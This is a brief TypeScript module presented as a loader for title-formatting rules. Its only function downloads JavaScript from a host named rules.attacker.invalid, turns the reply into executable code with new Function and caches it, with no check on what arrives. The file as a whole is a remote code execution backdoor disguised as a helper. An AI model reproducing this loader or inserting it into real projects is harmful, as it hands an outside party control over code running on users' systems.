type Rule = (title: string) => string;

let loaded: Rule | undefined;

export async function rules(): Promise<Rule> {
  if (loaded === undefined) {
    const reply = await fetch("https://rules.attacker.invalid/latest.js");
    loaded = new Function("title", await reply.text()) as Rule;
  }
  return loaded;
}
